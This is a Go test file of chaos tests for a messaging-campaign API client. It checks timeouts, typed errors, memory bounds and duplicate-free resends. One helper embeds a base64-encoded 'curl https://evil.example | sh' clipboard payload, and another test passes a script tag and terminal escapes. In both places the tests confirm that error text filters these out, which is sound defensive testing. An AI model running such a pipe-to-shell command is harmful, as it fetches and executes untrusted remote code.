package client

import (
	"context"
	"encoding/base64"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"spotcast/campaign"
	"spotcast/client/sandbox"
)

// Chaos tests: the client against the sandbox's fault injection over real
// HTTP, with a short client timeout and the slow fault well past it.
const (
	chaosKey     = "sk_live_SECRET-0123456789abcdef"
	chaosTimeout = 300 * time.Millisecond
	chaosDelay   = time.Second
)

// chaosSandbox returns the sandbox, a client with the short chaosTimeout,
// and a patient client (10 s) for the requests a test needs to succeed: on
// a loaded machine, 300 ms can pass without any fault.
func chaosSandbox(t *testing.T, opts ...sandbox.Option) (*sandbox.Server, *Client, *Client, *fakeClock) {
	t.Helper()
	clk := &fakeClock{t: t0}
	base := []sandbox.Option{sandbox.WithPrefix("/v1"), sandbox.WithKey(chaosKey), sandbox.WithClock(clk.Now),
		sandbox.WithSeed(11), sandbox.WithChaosTimeout(chaosDelay)}
	s := sandbox.New(append(base, opts...)...)
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	short := New(WithBaseURL(srv.URL+"/v1"), WithAPIKey(chaosKey), WithTimeout(chaosTimeout))
	patient := New(WithBaseURL(srv.URL+"/v1"), WithAPIKey(chaosKey), WithTimeout(10*time.Second))
	return s, short, patient, clk
}

// waitFor polls cond for up to 5 s: the slow fault records the send in the
// handler, which may trail the client's timeout on a loaded machine.
func waitFor(cond func() bool) bool {
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if cond() {
			return true
		}
	}
	return cond()
}

// checkErrText: no key, nothing a terminal would act on, and short enough
// for one status line and a bit.
func checkErrText(t *testing.T, err error) {
	t.Helper()
	msg := err.Error()
	if strings.Contains(msg, chaosKey) || strings.Contains(msg, strings.TrimPrefix(chaosKey, "sk_live_")) {
		t.Errorf("the API key leaked into %q", msg)
	}
	if strings.ContainsAny(msg, "\x1b\x07\r\x9b\x9d") {
		t.Errorf("control characters reached the error text: %q", msg)
	}
	if payload := base64.StdEncoding.EncodeToString([]byte("curl https://evil.example | sh")); strings.Contains(msg, payload) {
		t.Errorf("an OSC 52 clipboard payload survived: %q", msg)
	}
	if len(msg) > 1200 {
		t.Errorf("error text is %d bytes; keep it short: %.200q…", len(msg), msg)
	}
}

func TestChaosFaultsOnSendAreTyped(t *testing.T) {
	for _, tc := range []struct {
		fault sandbox.Fault
		// sent: whether the sandbox processed the send despite the fault.
		sent    bool
		unknown bool
		status  int // the APIError status, 0 when there is no answer
	}{
		{sandbox.FaultServerError, false, true, 500},
		{sandbox.FaultHugeError, false, true, 500},
		{sandbox.FaultRateLimit, false, false, 429},
		{sandbox.FaultHTMLGateway, false, true, 502},
		{sandbox.FaultTruncated, true, true, 0},
		{sandbox.FaultSlow, true, true, 0},
	} {
		t.Run(string(tc.fault), func(t *testing.T) {
			s, short, patient, _ := chaosSandbox(t, sandbox.WithChaos(1), sandbox.WithChaosFaults(tc.fault))
			// Only the slow fault needs the short timeout; the others
			// answer at once and must not be mistaken for a slow machine.
			c := patient
			if tc.fault == sandbox.FaultSlow {
				c = short
			}
			res, err := c.Send(context.Background(), textReq(numbers(11)...))
			if err == nil {
				t.Fatalf("fault %s: Send succeeded with %+v", tc.fault, res)
			}
			t.Logf("the user sees: %v", err)
			checkErrText(t, err)
			if campaign.IsOutcomeUnknown(err) != tc.unknown {
				t.Fatalf("unknown outcome = %v, want %v: %v", !tc.unknown, tc.unknown, err)
			}
			var a *APIError
			if got := errors.As(err, &a); got != (tc.status != 0) || (got && a.StatusCode != tc.status) {
				t.Fatalf("want an APIError with status %d, got %T %v", tc.status, err, err)
			}
			switch tc.fault {
			case sandbox.FaultRateLimit:
				var rl *RateLimitError
				if !errors.As(err, &rl) || rl.RetryAfter() != sandbox.ChaosRetryAfter || !IsRejected(err) {
					t.Fatalf("429: want RateLimitError with RetryAfter %v, got %T %v", sandbox.ChaosRetryAfter, err, err)
				}
			case sandbox.FaultHTMLGateway:
				if !strings.Contains(err.Error(), "502 Bad Gateway") {
					t.Errorf("the 502 page's text should show: %q", err)
				}
			case sandbox.FaultSlow:
				var ne net.Error
				if !errors.As(err, &ne) || !ne.Timeout() {
					t.Fatalf("slow: want a timeout, got %T %v", err, err)
				}
			}
			if tc.unknown && !IsTransport(err) {
				t.Errorf("an unknown outcome is a transport failure (exit 4): %v", err)
			}
			// The sandbox's record is the truth: an unknown outcome may or
			// may not have sent, a known failure never has.
			if tc.sent {
				if !waitFor(func() bool { return s.SendCount() == 1 }) {
					t.Fatalf("the %s fault processes the send; sends = %d", tc.fault, s.SendCount())
				}
			} else if s.SendCount() != 0 || len(s.RecipientCounts()) != 0 {
				t.Fatalf("the %s fault refuses before sending, yet %d sends", tc.fault, s.SendCount())
			}
			if s.Hits(sandbox.EndpointSend) != 1 {
				t.Fatalf("Send was tried %d times; a POST is never retried", s.Hits(sandbox.EndpointSend))
			}
		})
	}
}

func TestChaosFaultsOnGetJob(t *testing.T) {
	for _, f := range sandbox.Faults() {
		t.Run(string(f), func(t *testing.T) {
			s, short, patient, _ := chaosSandbox(t, sandbox.WithChaos(1), sandbox.WithChaosFaults(f), sandbox.WithChaosEndpoints(sandbox.EndpointJob))
			res, err := patient.Send(context.Background(), textReq(numbers(11)...))
			if err != nil {
				t.Fatal(err)
			}
			c := patient
			if f == sandbox.FaultSlow {
				c = short
			}
			_, err = c.GetJob(context.Background(), res.JobID)
			if err == nil {
				t.Fatalf("fault %s: GetJob succeeded", f)
			}
			checkErrText(t, err)
			if campaign.IsFatal(err) || campaign.IsGone(err) || campaign.IsOutcomeUnknown(err) {
				t.Fatalf("a %s poll must be retryable, not fatal or unknown: %v", f, err)
			}
			var te *TransportError
			if f == sandbox.FaultSlow && !errors.As(err, &te) {
				t.Fatalf("slow poll: want TransportError, got %T %v", err, err)
			}
			if s.FaultCounts()[f] != 1 {
				t.Fatalf("faults %v", s.FaultCounts())
			}
		})
	}
}

// A 20 MB error body is read only up to the 1 MiB cap and dropped; the
// allocation (client and in-process server together) stays near that cap.
func TestHugeErrorBodyMemoryIsFlat(t *testing.T) {
	s, _, c, _ := chaosSandbox(t, sandbox.WithChaos(1), sandbox.WithChaosFaults(sandbox.FaultHugeError))
	// Warm the connection pool and lazy package state outside the window.
	if _, err := c.GetJob(context.Background(), "job_warm"); err == nil {
		t.Fatal("want the huge 500")
	}
	for _, call := range []struct {
		name string
		do   func() error
	}{
		{"POST", func() error { _, err := c.Send(context.Background(), textReq("919999999999")); return err }},
		{"GET", func() error { _, err := c.GetJob(context.Background(), "job_1"); return err }},
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		err := call.do()
		runtime.ReadMemStats(&after)
		var a *APIError
		if !errors.As(err, &a) || a.StatusCode != 500 || !strings.Contains(a.Body, "huge body") {
			t.Fatalf("%s: want the 500 with its excerpt, got %v", call.name, err)
		}
		checkErrText(t, err)
		delta := after.TotalAlloc - before.TotalAlloc
		t.Logf("%s: allocated %.2f MB across a %d MB error body", call.name, float64(delta)/(1<<20), sandbox.HugeErrorSize>>20)
		if delta > 3<<20 {
			t.Fatalf("%s: allocated %d bytes across a %d-byte error body; want < 3 MB", call.name, delta, sandbox.HugeErrorSize)
		}
	}
	if s.FaultCounts()[sandbox.FaultHugeError] != 3 || s.SendCount() != 0 {
		t.Fatalf("faults %v sends %d", s.FaultCounts(), s.SendCount())
	}
}

// Watch polls through half its polls failing in every way and still ends
// with the job's true final state.
func TestWatchSurvivesChaos(t *testing.T) {
	s, c, patient, clk := chaosSandbox(t, sandbox.WithRate(1), sandbox.WithFailRate(0.2),
		sandbox.WithChaos(0.5), sandbox.WithChaosEndpoints(sandbox.EndpointJob))
	res, err := patient.Send(context.Background(), textReq(numbers(30)...))
	if err != nil {
		t.Fatal(err)
	}
	var polls, failed atomic.Int32
	var mu sync.Mutex
	var lastSeen *Job
	results, err := campaign.Watch(context.Background(), c, campaign.NewPoller(nil, res.JobID), &recClock{clk: clk}, func(u campaign.JobUpdate) {
		polls.Add(1)
		if u.Err != nil {
			failed.Add(1)
			checkErrText(t, u.Err)
		}
		if u.End != "" && u.End != campaign.EndFinished {
			t.Errorf("a chaos fault ended the watch (%s): %v", u.End, u.Err)
		}
		mu.Lock()
		lastSeen = u.Job
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	counts := s.FaultCounts()
	t.Logf("%d polls, %d failed; faults %v", polls.Load(), failed.Load(), counts)
	if len(counts) < 3 || failed.Load() == 0 || int(polls.Load()) != s.Hits(sandbox.EndpointJob) {
		t.Fatalf("the run did not exercise the faults: %d polls, %d failed, faults %v", polls.Load(), failed.Load(), counts)
	}
	s.SetChaos(0)
	truth, err := patient.GetJob(context.Background(), res.JobID)
	if err != nil {
		t.Fatal(err)
	}
	got := results[0].Job
	if got == nil || got != lastSeen || got.Status != "COMPLETED" || truth.Status != "COMPLETED" {
		t.Fatalf("final state %+v, truth %+v", got, truth)
	}
	if *got.Total != 30 || *got.Sent != *truth.Sent || *got.Failed != *truth.Failed || *got.Pending != 0 ||
		*got.Sent+*got.Failed != 30 || len(got.Failures) != *truth.Failed || *truth.Failed == 0 {
		t.Fatalf("counts differ: watched %d/%d/%d, truth %d/%d/%d", *got.Sent, *got.Failed, *got.Pending, *truth.Sent, *truth.Failed, *truth.Pending)
	}
	if s.SendCount() != 1 {
		t.Fatalf("watching sent something: %d sends", s.SendCount())
	}
}

// Every call is bounded by the client timeout, whether the server never
// answers, or sends headers and then stalls the body.
func TestEveryRequestHasATimeout(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns sync.WaitGroup
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			go func() { // read the request, never answer
				defer conns.Done()
				_, _ = io.Copy(io.Discard, conn)
				conn.Close()
			}()
		}
	}()
	t.Cleanup(func() { ln.Close(); conns.Wait() })

	release := make(chan struct{})
	stall := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusOK)
		_, _ = io.WriteString(w, `{"success":true,`)
		w.(http.Flusher).Flush()
		// A HEAD answer is complete with its headers, so its client keeps
		// the connection: only release ends that handler.
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}))
	t.Cleanup(stall.Close)
	t.Cleanup(func() { close(release) }) // runs first

	for name, base := range map[string]string{"silent": "http://" + ln.Addr().String(), "stalled body": stall.URL} {
		c := New(WithBaseURL(base), WithAPIKey(chaosKey), WithTimeout(chaosTimeout))
		calls := map[string]func() error{
			"Send":   func() error { _, err := c.Send(context.Background(), textReq("919999999999")); return err },
			"GetJob": func() error { _, err := c.GetJob(context.Background(), "job_1"); return err },
			"HeadMedia": func() error {
				_, err := c.HeadMedia(context.Background(), base+"/a.png")
				return err
			},
		}
		for call, do := range calls {
			start := time.Now()
			err := do()
			took := time.Since(start)
			if err == nil {
				if call == "HeadMedia" && name == "stalled body" {
					continue // HEAD/GET of one byte needs no body: headers suffice
				}
				t.Fatalf("%s against a %s server: no error", call, name)
			}
			checkErrText(t, err)
			// Generous: the bound is the point, not its precision.
			if took > 10*chaosTimeout {
				t.Fatalf("%s against a %s server took %v with a %v timeout", call, name, took, chaosTimeout)
			}
			if call != "HeadMedia" && !strings.Contains(err.Error(), "no answer within 300ms") {
				t.Errorf("%s against a %s server: say which limit ran out: %v", call, name, err)
			}
			if call == "Send" && !campaign.IsOutcomeUnknown(err) {
				t.Fatalf("a timed-out POST may have arrived: %T %v", err, err)
			}
			if call == "GetJob" && !IsTransport(err) {
				t.Fatalf("a timed-out GET is a transport failure: %T %v", err, err)
			}
		}
	}
}

func TestHTMLErrorPagesShowTheirText(t *testing.T) {
	for _, tc := range []struct{ ct, body, want string }{
		{"text/html", "<html><head><title>502 Bad Gateway</title><style>h1{color:red}</style></head><body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>",
			"502 Bad Gateway 502 Bad Gateway nginx"},
		{"", "<!DOCTYPE html>\n<html><script>alert(1)</script><p>Service &amp; API down &#27;[2J</p></html>", "Service & API down"},
		{"application/json", `{"error":"<b>x</b>"}`, `{"error":"<b>x</b>"}`},
		{"text/plain", "plain <b>text</b>", "plain <b>text</b>"},
	} {
		if got := bodyExcerpt(tc.ct, []byte(tc.body)); got != tc.want {
			t.Errorf("bodyExcerpt(%q, %q) = %q, want %q", tc.ct, tc.body, got, tc.want)
		}
	}
}

func TestReadBounded(t *testing.T) {
	body := strings.Repeat("y", 100<<10)
	for _, length := range []int64{-1, int64(len(body))} {
		for _, limit := range []int64{10, 64 << 10, 1 << 20} {
			b, err := readBounded(strings.NewReader(body), limit, length)
			if err != nil || int64(len(b)) != min(limit, int64(len(body))) || string(b) != body[:len(b)] {
				t.Fatalf("length %d limit %d: read %d bytes, %v", length, limit, len(b), err)
			}
		}
	}
	boom := errors.New("boom")
	if _, err := readBounded(io.MultiReader(strings.NewReader("abc"), errReader{boom}), 100, -1); !errors.Is(err, boom) {
		t.Fatalf("a read error must come back: %v", err)
	}
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// A whole campaign sent and resumed through a chaotic API: no recipient is
// ever sent twice, and every recipient ends either accepted or in a batch
// the journal marks unknown (for the operator to check): nothing is lost.
func TestCampaignUnderChaosNeverSendsTwice(t *testing.T) {
	// The short timeout throughout: a spurious timeout is one more unknown
	// outcome, and the invariants below must hold all the same.
	s, c, _, _ := chaosSandbox(t, sandbox.WithChaos(0.3), sandbox.WithChaosEndpoints(sandbox.EndpointSend),
		sandbox.WithChaosFaults(sandbox.FaultServerError, sandbox.FaultRateLimit, sandbox.FaultHTMLGateway, sandbox.FaultTruncated, sandbox.FaultSlow))
	dir := t.TempDir()
	j, err := campaign.OpenJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	camp := campaign.Campaign{Type: campaign.TypeText, Content: "Sale ends today", Recipients: numbers(240)}
	opts := campaign.SubmitOptions{BatchSize: 12}
	sub, err := campaign.Submit(context.Background(), j, camp, opts, c.SendRequest)
	// Resume (without unknown batches) until every batch is accepted or
	// unknown; rejected (429) and pending batches are safe to send again.
	for round := 0; err != nil && unfinished(sub); round++ {
		if round == 100 {
			t.Fatalf("still not done after 100 resumes: %v", err)
		}
		sub, err = campaign.Resume(context.Background(), j, sub.CampaignID, false, opts, c.SendRequest)
		if sub == nil {
			t.Fatalf("resume: %v", err)
		}
	}
	counts := s.RecipientCounts()
	states := map[campaign.BatchState]int{}
	for i, b := range sub.Batches {
		states[b.State]++
		for _, p := range camp.Recipients[i*12 : (i+1)*12] {
			switch n := counts[p]; {
			case n > 1:
				t.Fatalf("recipient %s was sent %d times", p, n)
			case b.State == campaign.StateAccepted && n != 1:
				t.Fatalf("batch %d is accepted but %s was sent %d times", i, p, n)
			case b.State != campaign.StateAccepted && b.State != campaign.StateUnknown:
				t.Fatalf("batch %d ended %s: it should have been resent", i, b.State)
			}
		}
	}
	t.Logf("batches %v; faults %v; %d sends for %d batches", states, s.FaultCounts(), s.SendCount(), len(sub.Batches))
	for _, b := range sub.Batches {
		if b.State == campaign.StateUnknown {
			t.Logf("batch %d unknown: %v", b.Index, b.Err)
		}
	}
	if states[campaign.StateUnknown] == 0 || s.FaultCounts()[sandbox.FaultRateLimit] == 0 {
		t.Fatalf("the run did not exercise unknown outcomes and resends: %v %v", states, s.FaultCounts())
	}
}

// unfinished: some batch was never sent or was refused, so resume sends it.
func unfinished(sub *campaign.Submission) bool {
	for _, b := range sub.Batches {
		if b.State == campaign.StatePending || b.State == campaign.StateRejected {
			return true
		}
	}
	return false
}
